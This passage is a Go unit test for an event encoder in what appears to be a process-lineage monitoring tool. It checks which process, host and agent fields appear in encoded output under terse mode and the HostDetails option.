			if v, _ := lookup(m, path); v != want {
				t.Errorf("%v: %s = %v, want %v", tc.mode, path, v, want)
			}
		}
		for _, path := range []string{"process.args", "process.working_directory", "process.parent.executable", "lineaged.ancestry"} {
			if _, ok := lookup(m, path); ok == tc.terse {
				t.Errorf("%v: %s present %v, want %v", tc.mode, path, ok, !tc.terse)
			}
		}
		for _, path := range []string{"host.hostname", "host.id", "agent.id"} {
			if _, ok := lookup(m, path); ok {
				t.Errorf("%v: %s on a source's line without HostDetails", tc.mode, path)
			}
		}
	}
	own := &event.Event{TimeMsec: 5, Module: event.ModuleLineaged, Host: "h", Action: event.ActionStarted}
	for _, tc := range []struct {
		e       *event.Event
		details bool
		want    bool
	}{{own, false, true}, {exit, false, false}, {exit, true, true}} {
		m := decodeLine(t, NewEncoder(Options{Host: host, HostDetails: tc.details, Agent: Agent{ID: "a"}}).Append(nil, tc.e))
		for _, path := range []string{"host.hostname", "host.id", "host.os.type", "agent.id"} {
			if _, ok := lookup(m, path); ok != tc.want {
				t.Errorf("%s, HostDetails %v: %s present %v, want %v", tc.e.Module, tc.details, path, ok, tc.want)
			}
		}
	}
}
